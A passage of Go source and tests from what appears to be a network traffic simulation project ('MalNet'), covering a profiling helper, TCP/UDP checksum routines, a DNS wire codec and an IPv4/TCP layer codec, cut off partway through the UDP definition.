	sf, err := os.Create(straight)
	if err != nil {
		t.Fatal(err)
	}
	sj := NewJournal(sf)
	emit(sj, "a", "b", "c", "d")
	if err := sj.Flush(); err != nil {
		t.Fatal(err)
	}
	sf.Close()

	resumed := filepath.Join(t.TempDir(), "resumed.jsonl")
	rf, err := os.Create(resumed)
	if err != nil {
		t.Fatal(err)
	}
	rj := NewJournal(rf)
	emit(rj, "a", "b")
	if err := rj.Flush(); err != nil {
		t.Fatal(err)
	}
	id, bytes := rj.Cursor()
	if id != 2 || bytes == 0 {
		t.Fatalf("cursor after two spans: id=%d bytes=%d", id, bytes)
	}
	emit(rj, "killed-run-tail", "more-tail")
	rj.Flush()
	if err := rj.Rewind(id, bytes); err != nil {
		t.Fatalf("Rewind: %v", err)
	}
	emit(rj, "c", "d")
	if err := rj.Flush(); err != nil {
		t.Fatal(err)
	}
	rf.Close()

	want, _ := os.ReadFile(straight)
	got, _ := os.ReadFile(resumed)
	if string(got) != string(want) {
		t.Fatalf("rewound journal diverged:\ngot:\n%swant:\n%s", got, want)
	}
}

func TestJournalRewindNeedsFile(t *testing.T) {
	var sink struct{ nopWriter }
	j := NewJournal(&sink)
	if err := j.Rewind(0, 0); err == nil {
		t.Fatal("Rewind over a non-file sink did not error")
	}
}

type nopWriter struct{}

func (nopWriter) Write(p []byte) (int, error) { return len(p), nil }
