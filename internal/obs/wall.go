package obs

import (
	"expvar"
	"sort"
	"sync"
	"time"
)

// Wall collects wall-clock profiling data: cumulative per-stage
// timings and live gauges (queue depth, worker count). Unlike the
// deterministic plane it is mutex-protected — workers report busy
// time concurrently — and its contents are nondeterministic by
// design. Nothing here ever flows into the deterministic snapshot
// or the journal. A nil Wall absorbs all calls.
type Wall struct {
	mu       sync.Mutex
	stages   map[string]*wallStage
	gauges   map[string]func() int64
	counters map[string]func() int64
}

type wallStage struct {
	count int64
	nanos int64
}

// NewWall returns an empty wall profile.
func NewWall() *Wall {
	return &Wall{
		stages:   map[string]*wallStage{},
		gauges:   map[string]func() int64{},
		counters: map[string]func() int64{},
	}
}

// Timer starts timing one occurrence of stage and returns the stop
// function. Safe for concurrent use.
func (w *Wall) Timer(stage string) func() {
	if w == nil {
		return func() {}
	}
	start := time.Now()
	return func() { w.Add(stage, time.Since(start)) }
}

// Add records one occurrence of stage taking d.
func (w *Wall) Add(stage string, d time.Duration) {
	if w == nil {
		return
	}
	w.mu.Lock()
	s := w.stages[stage]
	if s == nil {
		s = &wallStage{}
		w.stages[stage] = s
	}
	s.count++
	s.nanos += int64(d)
	w.mu.Unlock()
}

// SetGauge registers (or replaces) a live gauge read on demand at
// snapshot time. fn must be safe to call from any goroutine.
func (w *Wall) SetGauge(name string, fn func() int64) {
	if w == nil {
		return
	}
	w.mu.Lock()
	w.gauges[name] = fn
	w.mu.Unlock()
}

// SetCounter registers (or replaces) a func-backed monotone counter,
// read on demand at snapshot time. Counters and gauges share the
// namespace of live values but are reported separately: a counter
// only ever goes up (request totals, cache hits), a gauge is a level
// (in-flight requests, queue depth). fn must be safe to call from any
// goroutine.
func (w *Wall) SetCounter(name string, fn func() int64) {
	if w == nil {
		return
	}
	w.mu.Lock()
	w.counters[name] = fn
	w.mu.Unlock()
}

// Snapshot returns the current profile as a JSON-friendly map:
// {"stages": {name: {count, total_ns, mean_ns}}, "gauges": {name: v},
// "counters": {name: v}}.
func (w *Wall) Snapshot() map[string]any {
	if w == nil {
		return nil
	}
	w.mu.Lock()
	stages := map[string]any{}
	for name, s := range w.stages {
		mean := int64(0)
		if s.count > 0 {
			mean = s.nanos / s.count
		}
		stages[name] = map[string]int64{"count": s.count, "total_ns": s.nanos, "mean_ns": mean}
	}
	gaugeFns := make(map[string]func() int64, len(w.gauges))
	for name, fn := range w.gauges {
		gaugeFns[name] = fn
	}
	counterFns := make(map[string]func() int64, len(w.counters))
	for name, fn := range w.counters {
		counterFns[name] = fn
	}
	w.mu.Unlock()
	// Gauge and counter functions run outside the lock: they may touch
	// other structures (channel lengths) and must not deadlock through
	// us.
	return map[string]any{
		"stages":   stages,
		"gauges":   readLiveValues(gaugeFns),
		"counters": readLiveValues(counterFns),
	}
}

// readLiveValues evaluates func-backed live values in sorted name
// order, so snapshots of the same state render stably.
func readLiveValues(fns map[string]func() int64) map[string]int64 {
	out := map[string]int64{}
	names := make([]string, 0, len(fns))
	for name := range fns {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		out[name] = fns[name]()
	}
	return out
}

// PublishExpvar exposes the wall profile as the named expvar (served
// on /debug/vars). Publishing the same name twice is a no-op, so
// repeated studies in one process are safe.
func (w *Wall) PublishExpvar(name string) {
	if w == nil || expvar.Get(name) != nil {
		return
	}
	expvar.Publish(name, expvar.Func(func() any { return w.Snapshot() }))
}
