package packet

import (
	"encoding/binary"
	"fmt"
	"net/netip"
)

// TransportChecksum computes the RFC 793/768 one's-complement
// checksum over the IPv4 pseudo-header (src, dst, zero, protocol,
// length) followed by the transport segment, with the segment's own
// checksum field assumed zeroed by the caller.
func TransportChecksum(proto uint8, src, dst netip.Addr, segment []byte) uint16 {
	var pseudo [12]byte
	s := src.As4()
	d := dst.As4()
	copy(pseudo[0:4], s[:])
	copy(pseudo[4:8], d[:])
	pseudo[9] = proto
	binary.BigEndian.PutUint16(pseudo[10:], uint16(len(segment)))

	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add(pseudo[:])
	add(segment)
	for sum>>16 != 0 {
		sum = (sum & 0xffff) + (sum >> 16)
	}
	c := ^uint16(sum)
	if proto == IPProtoUDP && c == 0 {
		// RFC 768: a computed zero is transmitted as all ones.
		return 0xffff
	}
	return c
}

// checksum field offsets within the transport header.
const (
	tcpChecksumOff = 16
	udpChecksumOff = 6
)

// FillTransportChecksum computes and writes the TCP or UDP checksum
// into a serialized raw-IPv4 frame in place. Frames with other
// transports are left untouched.
func FillTransportChecksum(frame []byte) error {
	if len(frame) < 20 || frame[0]>>4 != 4 {
		return ErrBadVersion
	}
	ihl := int(frame[0]&0x0f) * 4
	if len(frame) < ihl {
		return ErrTruncated
	}
	proto := frame[9]
	src := netip.AddrFrom4([4]byte(frame[12:16]))
	dst := netip.AddrFrom4([4]byte(frame[16:20]))
	segment := frame[ihl:]
	var off int
	switch proto {
	case IPProtoTCP:
		if len(segment) < 20 {
			return ErrTruncated
		}
		off = tcpChecksumOff
	case IPProtoUDP:
		if len(segment) < 8 {
			return ErrTruncated
		}
		off = udpChecksumOff
	default:
		return nil
	}
	segment[off] = 0
	segment[off+1] = 0
	binary.BigEndian.PutUint16(segment[off:], TransportChecksum(proto, src, dst, segment))
	return nil
}

// ValidTransportChecksum reports whether a raw-IPv4 frame's TCP/UDP
// checksum verifies. Non-TCP/UDP frames report true (nothing to
// check); malformed frames report an error.
func ValidTransportChecksum(frame []byte) (bool, error) {
	if len(frame) < 20 || frame[0]>>4 != 4 {
		return false, ErrBadVersion
	}
	ihl := int(frame[0]&0x0f) * 4
	if len(frame) < ihl {
		return false, ErrTruncated
	}
	proto := frame[9]
	if proto != IPProtoTCP && proto != IPProtoUDP {
		return true, nil
	}
	src := netip.AddrFrom4([4]byte(frame[12:16]))
	dst := netip.AddrFrom4([4]byte(frame[16:20]))
	segment := frame[ihl:]
	off := tcpChecksumOff
	minLen := 20
	if proto == IPProtoUDP {
		off, minLen = udpChecksumOff, 8
	}
	if len(segment) < minLen {
		return false, ErrTruncated
	}
	stored := binary.BigEndian.Uint16(segment[off:])
	if proto == IPProtoUDP && stored == 0 {
		return true, nil // RFC 768: zero means "no checksum"
	}
	tmp := make([]byte, len(segment))
	copy(tmp, segment)
	tmp[off] = 0
	tmp[off+1] = 0
	want := TransportChecksum(proto, src, dst, tmp)
	if stored != want {
		return false, fmt.Errorf("packet: checksum %#04x, computed %#04x", stored, want)
	}
	return true, nil
}
