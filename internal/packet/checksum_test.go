package packet

import (
	"encoding/binary"
	"net/netip"
	"testing"
	"testing/quick"
)

func mustFrame(t *testing.T, layers ...Layer) []byte {
	t.Helper()
	f, err := Serialize(layers...)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestFillAndValidateTCPChecksum(t *testing.T) {
	f := mustFrame(t,
		&IPv4{Protocol: IPProtoTCP, SrcIP: srcIP, DstIP: dstIP},
		&TCP{SrcPort: 48000, DstPort: 23, PSH: true, ACK: true},
		Raw("handshake"),
	)
	if ok, _ := ValidTransportChecksum(f); ok {
		t.Fatal("zeroed checksum validated")
	}
	if err := FillTransportChecksum(f); err != nil {
		t.Fatal(err)
	}
	ok, err := ValidTransportChecksum(f)
	if err != nil || !ok {
		t.Fatalf("filled checksum invalid: %v", err)
	}
	// A flipped payload bit must break it.
	f[len(f)-1] ^= 0x01
	if ok, _ := ValidTransportChecksum(f); ok {
		t.Fatal("corrupted frame validated")
	}
}

func TestFillAndValidateUDPChecksum(t *testing.T) {
	f := mustFrame(t,
		&IPv4{Protocol: IPProtoUDP, SrcIP: srcIP, DstIP: dstIP},
		&UDP{SrcPort: 5353, DstPort: 53},
		Raw("dns query bytes"),
	)
	if err := FillTransportChecksum(f); err != nil {
		t.Fatal(err)
	}
	if ok, err := ValidTransportChecksum(f); !ok {
		t.Fatalf("udp checksum invalid: %v", err)
	}
}

func TestUDPZeroChecksumMeansUnchecked(t *testing.T) {
	f := mustFrame(t,
		&IPv4{Protocol: IPProtoUDP, SrcIP: srcIP, DstIP: dstIP},
		&UDP{SrcPort: 1, DstPort: 2},
		Raw("x"),
	)
	// Serialized UDP leaves checksum zero.
	if ok, err := ValidTransportChecksum(f); !ok || err != nil {
		t.Fatalf("zero UDP checksum must validate (RFC 768): %v", err)
	}
}

func TestICMPFramePassesTransportCheck(t *testing.T) {
	f := mustFrame(t,
		&IPv4{Protocol: IPProtoICMP, SrcIP: srcIP, DstIP: dstIP},
		&ICMPv4{Type: 3, Code: 3},
	)
	if ok, err := ValidTransportChecksum(f); !ok || err != nil {
		t.Fatalf("icmp frame: %v", err)
	}
}

func TestChecksumKnownVector(t *testing.T) {
	// Hand-checkable vector: all-zero segment of length 4 from
	// 0.0.0.0 to 0.0.0.0, proto 6. Pseudo-header sums to
	// protocol<<... : pseudo = 0,0,0,0 | 0,6 | 0,4 => sum = 0x0006
	// + 0x0004 = 0x000a; segment adds 0. Checksum = ^0x000a.
	got := TransportChecksum(6, netip.IPv4Unspecified(), netip.IPv4Unspecified(), make([]byte, 4))
	if want := ^uint16(0x000a); got != want {
		t.Fatalf("checksum = %#04x, want %#04x", got, want)
	}
}

func TestFillRejectsMalformed(t *testing.T) {
	if err := FillTransportChecksum([]byte{1, 2, 3}); err == nil {
		t.Fatal("short frame accepted")
	}
	bad := make([]byte, 24)
	bad[0] = 0x45
	bad[9] = IPProtoTCP // claims TCP but no room for a header
	if err := FillTransportChecksum(bad); err == nil {
		t.Fatal("truncated TCP accepted")
	}
}

func TestQuickFilledChecksumAlwaysValidates(t *testing.T) {
	f := func(sp, dp uint16, payload []byte, a, b [4]byte) bool {
		frame, err := Serialize(
			&IPv4{Protocol: IPProtoTCP, SrcIP: netip.AddrFrom4(a), DstIP: netip.AddrFrom4(b)},
			&TCP{SrcPort: sp, DstPort: dp, ACK: true},
			Raw(payload),
		)
		if err != nil {
			return len(payload) > 60000 // oversize is the only legit failure
		}
		if err := FillTransportChecksum(frame); err != nil {
			return false
		}
		ok, _ := ValidTransportChecksum(frame)
		return ok
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestQuickChecksumDetectsSingleBitFlips(t *testing.T) {
	f := func(payload []byte, flipAt uint8) bool {
		if len(payload) == 0 {
			return true
		}
		frame, err := Serialize(
			&IPv4{Protocol: IPProtoUDP, SrcIP: srcIP, DstIP: dstIP},
			&UDP{SrcPort: 9, DstPort: 9},
			Raw(payload),
		)
		if err != nil {
			return true
		}
		if err := FillTransportChecksum(frame); err != nil {
			return false
		}
		// Flip one payload bit (after the 28-byte headers).
		pos := 28 + int(flipAt)%len(payload)
		frame[pos] ^= 0x10
		ok, _ := ValidTransportChecksum(frame)
		// One's-complement sums cannot miss a single bit flip
		// unless the flip produces the equivalent +0/-0 word; a
		// 0x10 flip never does.
		return !ok
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestChecksumOffsets(t *testing.T) {
	// Guard the hardcoded header offsets against drift.
	tcpHdr := make([]byte, 20)
	tcpHdr[12] = 5 << 4 // data offset
	binary.BigEndian.PutUint16(tcpHdr[tcpChecksumOff:], 0xbeef)
	tc, _, err := DecodeTCP(tcpHdr)
	if err != nil || tc == nil {
		t.Fatal(err)
	}
	udpHdr := make([]byte, 8)
	binary.BigEndian.PutUint16(udpHdr[udpChecksumOff:], 0xbeef)
	if _, _, err := DecodeUDP(udpHdr); err != nil {
		t.Fatal(err)
	}
}
