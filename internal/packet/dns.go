package packet

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"strings"
)

// DNS record types and classes used by the C2 resolution path.
const (
	DNSTypeA   uint16 = 1
	DNSClassIN uint16 = 1
)

// DNS decoding errors.
var (
	ErrDNSTruncated = errors.New("packet: truncated DNS message")
	ErrDNSBadName   = errors.New("packet: malformed DNS name")
)

// DNSQuestion is one query entry.
type DNSQuestion struct {
	Name  string
	Type  uint16
	Class uint16
}

// DNSAnswer is one answer resource record. Only A records carry an
// address.
type DNSAnswer struct {
	Name  string
	Type  uint16
	Class uint16
	TTL   uint32
	Addr  netip.Addr // for A records
}

// DNSMessage is a DNS query or response.
type DNSMessage struct {
	ID        uint16
	Response  bool
	RCode     uint8
	Questions []DNSQuestion
	Answers   []DNSAnswer
}

// NewDNSQuery builds an A query for name.
func NewDNSQuery(id uint16, name string) *DNSMessage {
	return &DNSMessage{
		ID:        id,
		Questions: []DNSQuestion{{Name: name, Type: DNSTypeA, Class: DNSClassIN}},
	}
}

// Answer builds a response to q resolving its first question to addr.
// A zero addr produces an NXDOMAIN response.
func (q *DNSMessage) Answer(addr netip.Addr, ttl uint32) *DNSMessage {
	resp := &DNSMessage{ID: q.ID, Response: true, Questions: q.Questions}
	if !addr.IsValid() {
		resp.RCode = 3 // NXDOMAIN
		return resp
	}
	if len(q.Questions) > 0 {
		resp.Answers = []DNSAnswer{{
			Name: q.Questions[0].Name, Type: DNSTypeA, Class: DNSClassIN,
			TTL: ttl, Addr: addr,
		}}
	}
	return resp
}

func encodeName(buf []byte, name string) ([]byte, error) {
	name = strings.TrimSuffix(name, ".")
	if name == "" {
		return append(buf, 0), nil
	}
	for _, label := range strings.Split(name, ".") {
		if len(label) == 0 || len(label) > 63 {
			return nil, fmt.Errorf("%w: label %q", ErrDNSBadName, label)
		}
		buf = append(buf, byte(len(label)))
		buf = append(buf, label...)
	}
	return append(buf, 0), nil
}

func decodeName(data []byte, off int) (string, int, error) {
	var sb strings.Builder
	jumped := false
	guard := 0
	pos := off
	end := off
	for {
		if guard++; guard > 128 {
			return "", 0, ErrDNSBadName
		}
		if pos >= len(data) {
			return "", 0, ErrDNSTruncated
		}
		l := int(data[pos])
		switch {
		case l == 0:
			if !jumped {
				end = pos + 1
			}
			return sb.String(), end, nil
		case l&0xc0 == 0xc0:
			if pos+1 >= len(data) {
				return "", 0, ErrDNSTruncated
			}
			ptr := int(binary.BigEndian.Uint16(data[pos:]) & 0x3fff)
			if !jumped {
				end = pos + 2
			}
			jumped = true
			pos = ptr
		default:
			if pos+1+l > len(data) {
				return "", 0, ErrDNSTruncated
			}
			if sb.Len() > 0 {
				sb.WriteByte('.')
			}
			sb.Write(data[pos+1 : pos+1+l])
			pos += 1 + l
		}
	}
}

// Encode serializes the message to wire format.
func (m *DNSMessage) Encode() ([]byte, error) {
	buf := make([]byte, 12, 64)
	binary.BigEndian.PutUint16(buf[0:], m.ID)
	var flags uint16
	if m.Response {
		flags |= 0x8000 | 0x0400 // QR, AA
	} else {
		flags |= 0x0100 // RD
	}
	flags |= uint16(m.RCode) & 0x000f
	binary.BigEndian.PutUint16(buf[2:], flags)
	binary.BigEndian.PutUint16(buf[4:], uint16(len(m.Questions)))
	binary.BigEndian.PutUint16(buf[6:], uint16(len(m.Answers)))
	var err error
	for _, q := range m.Questions {
		if buf, err = encodeName(buf, q.Name); err != nil {
			return nil, err
		}
		buf = binary.BigEndian.AppendUint16(buf, q.Type)
		buf = binary.BigEndian.AppendUint16(buf, q.Class)
	}
	for _, a := range m.Answers {
		if buf, err = encodeName(buf, a.Name); err != nil {
			return nil, err
		}
		buf = binary.BigEndian.AppendUint16(buf, a.Type)
		buf = binary.BigEndian.AppendUint16(buf, a.Class)
		buf = binary.BigEndian.AppendUint32(buf, a.TTL)
		if a.Type == DNSTypeA && a.Addr.Is4() {
			ip := a.Addr.As4()
			buf = binary.BigEndian.AppendUint16(buf, 4)
			buf = append(buf, ip[:]...)
		} else {
			buf = binary.BigEndian.AppendUint16(buf, 0)
		}
	}
	return buf, nil
}

// DecodeDNS parses a DNS wire message.
func DecodeDNS(data []byte) (*DNSMessage, error) {
	if len(data) < 12 {
		return nil, ErrDNSTruncated
	}
	flags := binary.BigEndian.Uint16(data[2:])
	m := &DNSMessage{
		ID:       binary.BigEndian.Uint16(data[0:]),
		Response: flags&0x8000 != 0,
		RCode:    uint8(flags & 0x000f),
	}
	qd := int(binary.BigEndian.Uint16(data[4:]))
	an := int(binary.BigEndian.Uint16(data[6:]))
	off := 12
	for i := 0; i < qd; i++ {
		name, next, err := decodeName(data, off)
		if err != nil {
			return nil, err
		}
		if next+4 > len(data) {
			return nil, ErrDNSTruncated
		}
		m.Questions = append(m.Questions, DNSQuestion{
			Name:  name,
			Type:  binary.BigEndian.Uint16(data[next:]),
			Class: binary.BigEndian.Uint16(data[next+2:]),
		})
		off = next + 4
	}
	for i := 0; i < an; i++ {
		name, next, err := decodeName(data, off)
		if err != nil {
			return nil, err
		}
		if next+10 > len(data) {
			return nil, ErrDNSTruncated
		}
		a := DNSAnswer{
			Name:  name,
			Type:  binary.BigEndian.Uint16(data[next:]),
			Class: binary.BigEndian.Uint16(data[next+2:]),
			TTL:   binary.BigEndian.Uint32(data[next+4:]),
		}
		rdlen := int(binary.BigEndian.Uint16(data[next+8:]))
		if next+10+rdlen > len(data) {
			return nil, ErrDNSTruncated
		}
		if a.Type == DNSTypeA && rdlen == 4 {
			a.Addr = netip.AddrFrom4([4]byte(data[next+10 : next+14]))
		}
		m.Answers = append(m.Answers, a)
		off = next + 10 + rdlen
	}
	return m, nil
}
