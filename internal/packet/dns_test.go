package packet

import (
	"net/netip"
	"strings"
	"testing"
	"testing/quick"
)

func TestDNSQueryRoundTrip(t *testing.T) {
	q := NewDNSQuery(0x1234, "cnc.example.com")
	wire, err := q.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeDNS(wire)
	if err != nil {
		t.Fatal(err)
	}
	if got.ID != 0x1234 || got.Response {
		t.Fatalf("decoded %+v", got)
	}
	if len(got.Questions) != 1 || got.Questions[0].Name != "cnc.example.com" {
		t.Fatalf("questions = %+v", got.Questions)
	}
	if got.Questions[0].Type != DNSTypeA || got.Questions[0].Class != DNSClassIN {
		t.Fatalf("question = %+v", got.Questions[0])
	}
}

func TestDNSAnswerRoundTrip(t *testing.T) {
	addr := netip.MustParseAddr("203.0.113.77")
	q := NewDNSQuery(9, "bot.mal.net")
	resp := q.Answer(addr, 300)
	wire, err := resp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeDNS(wire)
	if err != nil {
		t.Fatal(err)
	}
	if !got.Response || got.RCode != 0 {
		t.Fatalf("decoded %+v", got)
	}
	if len(got.Answers) != 1 || got.Answers[0].Addr != addr || got.Answers[0].TTL != 300 {
		t.Fatalf("answers = %+v", got.Answers)
	}
	if got.Answers[0].Name != "bot.mal.net" {
		t.Fatalf("answer name = %q", got.Answers[0].Name)
	}
}

func TestDNSNXDomain(t *testing.T) {
	q := NewDNSQuery(9, "gone.example.com")
	resp := q.Answer(netip.Addr{}, 0)
	wire, err := resp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeDNS(wire)
	if err != nil {
		t.Fatal(err)
	}
	if got.RCode != 3 || len(got.Answers) != 0 {
		t.Fatalf("decoded %+v", got)
	}
}

func TestDNSCompressionPointerDecodes(t *testing.T) {
	// Hand-built response with a compression pointer in the answer
	// name (0xc00c -> offset 12, the question name).
	q := NewDNSQuery(7, "a.bc")
	wire, _ := q.Encode()
	wire[7] = 1 // ANCOUNT = 1
	addr := []byte{0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 1}
	wire = append(wire, addr...)
	got, err := DecodeDNS(wire)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Answers) != 1 || got.Answers[0].Name != "a.bc" {
		t.Fatalf("answers = %+v", got.Answers)
	}
	if got.Answers[0].Addr != netip.MustParseAddr("192.0.2.1") {
		t.Fatalf("addr = %v", got.Answers[0].Addr)
	}
}

func TestDNSPointerLoopRejected(t *testing.T) {
	// A name that points at itself must not hang the decoder.
	msg := make([]byte, 12)
	msg[5] = 1 // QDCOUNT = 1
	msg = append(msg, 0xc0, 12, 0, 1, 0, 1)
	if _, err := DecodeDNS(msg); err == nil {
		t.Fatal("self-referential pointer decoded without error")
	}
}

func TestDNSBadLabelRejected(t *testing.T) {
	m := NewDNSQuery(1, strings.Repeat("x", 64)+".com")
	if _, err := m.Encode(); err == nil {
		t.Fatal("64-byte label encoded without error")
	}
}

func TestDNSTruncatedRejected(t *testing.T) {
	if _, err := DecodeDNS([]byte{1, 2, 3}); err != ErrDNSTruncated {
		t.Fatalf("err = %v, want ErrDNSTruncated", err)
	}
}

func TestQuickDNSNameRoundTrip(t *testing.T) {
	f := func(raw []uint8) bool {
		// Build a plausible hostname from the fuzz input.
		var labels []string
		for _, b := range raw {
			l := int(b%20) + 1
			labels = append(labels, strings.Repeat("a", l))
			if len(labels) == 4 {
				break
			}
		}
		if len(labels) == 0 {
			labels = []string{"x"}
		}
		name := strings.Join(labels, ".")
		q := NewDNSQuery(1, name)
		wire, err := q.Encode()
		if err != nil {
			return false
		}
		got, err := DecodeDNS(wire)
		if err != nil {
			return false
		}
		return got.Questions[0].Name == name
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}
