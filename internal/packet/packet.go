// Package packet implements a small gopacket-style layer codec for
// the protocols the MalNet traffic path uses: IPv4, TCP, UDP, ICMPv4
// and DNS. It supports both decoding captured bytes into layers and
// serializing layers back to wire format (prepend-style, so a packet
// is built by serializing payload-first), plus Flow/Endpoint keys for
// grouping traffic.
package packet

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
)

// LayerType identifies a protocol layer.
type LayerType uint8

// Layer types understood by this package.
const (
	LayerTypeIPv4 LayerType = iota + 1
	LayerTypeTCP
	LayerTypeUDP
	LayerTypeICMPv4
	LayerTypePayload
)

// String names the layer type.
func (t LayerType) String() string {
	switch t {
	case LayerTypeIPv4:
		return "IPv4"
	case LayerTypeTCP:
		return "TCP"
	case LayerTypeUDP:
		return "UDP"
	case LayerTypeICMPv4:
		return "ICMPv4"
	case LayerTypePayload:
		return "Payload"
	}
	return fmt.Sprintf("LayerType(%d)", uint8(t))
}

// Layer is one decoded protocol layer.
type Layer interface {
	// LayerType identifies the layer's protocol.
	LayerType() LayerType
	// SerializeTo appends the layer's wire encoding in front of
	// payload and returns the combined bytes.
	SerializeTo(payload []byte) ([]byte, error)
}

// Decoding errors.
var (
	ErrTruncated  = errors.New("packet: truncated")
	ErrBadVersion = errors.New("packet: not an IPv4 packet")
)

// IP protocol numbers used by the IPv4 header.
const (
	IPProtoICMP = 1
	IPProtoTCP  = 6
	IPProtoUDP  = 17
)

// Endpoint is a hashable traffic endpoint (an address, or an
// address:port pair). Endpoints are comparable and usable as map
// keys.
type Endpoint struct {
	IP   netip.Addr
	Port uint16
	// HasPort distinguishes a transport endpoint from a bare
	// network endpoint with port 0.
	HasPort bool
}

// String renders the endpoint.
func (e Endpoint) String() string {
	if e.HasPort {
		return fmt.Sprintf("%s:%d", e.IP, e.Port)
	}
	return e.IP.String()
}

// Flow is an ordered (src, dst) pair of endpoints; it is comparable
// and usable as a map key.
type Flow struct {
	Src, Dst Endpoint
}

// Reverse returns the opposite-direction flow.
func (f Flow) Reverse() Flow { return Flow{Src: f.Dst, Dst: f.Src} }

// String renders "src -> dst".
func (f Flow) String() string { return f.Src.String() + " -> " + f.Dst.String() }

// Canonical returns the flow with endpoints ordered so that both
// directions map to the same key (for bidirectional session
// grouping).
func (f Flow) Canonical() Flow {
	a, b := f.Src, f.Dst
	if b.IP.Less(a.IP) || (a.IP == b.IP && b.Port < a.Port) {
		return Flow{Src: b, Dst: a}
	}
	return f
}

// IPv4 is the IPv4 header layer.
type IPv4 struct {
	TOS      uint8
	ID       uint16
	TTL      uint8
	Protocol uint8
	SrcIP    netip.Addr
	DstIP    netip.Addr
	// Length is the total length field as decoded; Serialize
	// computes it.
	Length uint16
}

// LayerType implements Layer.
func (ip *IPv4) LayerType() LayerType { return LayerTypeIPv4 }

// NetworkFlow returns the src/dst address flow.
func (ip *IPv4) NetworkFlow() Flow {
	return Flow{Src: Endpoint{IP: ip.SrcIP}, Dst: Endpoint{IP: ip.DstIP}}
}

// SerializeTo implements Layer, prepending a 20-byte header (no
// options) with a correct checksum.
func (ip *IPv4) SerializeTo(payload []byte) ([]byte, error) {
	if !ip.SrcIP.Is4() || !ip.DstIP.Is4() {
		return nil, fmt.Errorf("packet: IPv4 serialize needs v4 addresses, have %v -> %v", ip.SrcIP, ip.DstIP)
	}
	total := 20 + len(payload)
	if total > 0xffff {
		return nil, fmt.Errorf("packet: IPv4 payload too large (%d)", total)
	}
	hdr := make([]byte, 20, total)
	hdr[0] = 0x45 // version 4, IHL 5
	hdr[1] = ip.TOS
	binary.BigEndian.PutUint16(hdr[2:], uint16(total))
	binary.BigEndian.PutUint16(hdr[4:], ip.ID)
	ttl := ip.TTL
	if ttl == 0 {
		ttl = 64
	}
	hdr[8] = ttl
	hdr[9] = ip.Protocol
	src := ip.SrcIP.As4()
	dst := ip.DstIP.As4()
	copy(hdr[12:16], src[:])
	copy(hdr[16:20], dst[:])
	binary.BigEndian.PutUint16(hdr[10:], checksum(hdr))
	return append(hdr, payload...), nil
}

// DecodeIPv4 parses an IPv4 header, returning the layer and its
// payload bytes.
func DecodeIPv4(data []byte) (*IPv4, []byte, error) {
	if len(data) < 20 {
		return nil, nil, ErrTruncated
	}
	if data[0]>>4 != 4 {
		return nil, nil, ErrBadVersion
	}
	ihl := int(data[0]&0x0f) * 4
	if ihl < 20 || len(data) < ihl {
		return nil, nil, ErrTruncated
	}
	total := int(binary.BigEndian.Uint16(data[2:]))
	if total < ihl || total > len(data) {
		total = len(data) // tolerate truncated captures
	}
	ip := &IPv4{
		TOS:      data[1],
		ID:       binary.BigEndian.Uint16(data[4:]),
		TTL:      data[8],
		Protocol: data[9],
		SrcIP:    netip.AddrFrom4([4]byte(data[12:16])),
		DstIP:    netip.AddrFrom4([4]byte(data[16:20])),
		Length:   uint16(total),
	}
	return ip, data[ihl:total], nil
}

// TCP is the TCP header layer.
type TCP struct {
	SrcPort, DstPort uint16
	Seq, Ack         uint32
	SYN, ACK, FIN    bool
	RST, PSH, URG    bool
	Window           uint16
}

// LayerType implements Layer.
func (t *TCP) LayerType() LayerType { return LayerTypeTCP }

// TransportFlow returns the port-level flow (IPs unset; combine with
// the IPv4 layer for full 4-tuples).
func (t *TCP) TransportFlow() Flow {
	return Flow{
		Src: Endpoint{Port: t.SrcPort, HasPort: true},
		Dst: Endpoint{Port: t.DstPort, HasPort: true},
	}
}

func (t *TCP) flagByte() byte {
	var f byte
	if t.FIN {
		f |= 0x01
	}
	if t.SYN {
		f |= 0x02
	}
	if t.RST {
		f |= 0x04
	}
	if t.PSH {
		f |= 0x08
	}
	if t.ACK {
		f |= 0x10
	}
	if t.URG {
		f |= 0x20
	}
	return f
}

// SerializeTo implements Layer, prepending a 20-byte header (no
// options). The checksum field is zero: the capture path has no
// pseudo-header context, matching what offloaded NICs record.
func (t *TCP) SerializeTo(payload []byte) ([]byte, error) {
	hdr := make([]byte, 20, 20+len(payload))
	binary.BigEndian.PutUint16(hdr[0:], t.SrcPort)
	binary.BigEndian.PutUint16(hdr[2:], t.DstPort)
	binary.BigEndian.PutUint32(hdr[4:], t.Seq)
	binary.BigEndian.PutUint32(hdr[8:], t.Ack)
	hdr[12] = 5 << 4 // data offset
	hdr[13] = t.flagByte()
	win := t.Window
	if win == 0 {
		win = 65535
	}
	binary.BigEndian.PutUint16(hdr[14:], win)
	return append(hdr, payload...), nil
}

// DecodeTCP parses a TCP header, returning the layer and payload.
func DecodeTCP(data []byte) (*TCP, []byte, error) {
	if len(data) < 20 {
		return nil, nil, ErrTruncated
	}
	off := int(data[12]>>4) * 4
	if off < 20 || len(data) < off {
		return nil, nil, ErrTruncated
	}
	f := data[13]
	t := &TCP{
		SrcPort: binary.BigEndian.Uint16(data[0:]),
		DstPort: binary.BigEndian.Uint16(data[2:]),
		Seq:     binary.BigEndian.Uint32(data[4:]),
		Ack:     binary.BigEndian.Uint32(data[8:]),
		FIN:     f&0x01 != 0,
		SYN:     f&0x02 != 0,
		RST:     f&0x04 != 0,
		PSH:     f&0x08 != 0,
		ACK:     f&0x10 != 0,
		URG:     f&0x20 != 0,
		Window:  binary.BigEndian.Uint16(data[14:]),
	}
	return t, data[off:], nil
}

// UDP is the UDP header layer.
type UDP struct {
	SrcPort, DstPort uint16
	Length           uint16
}

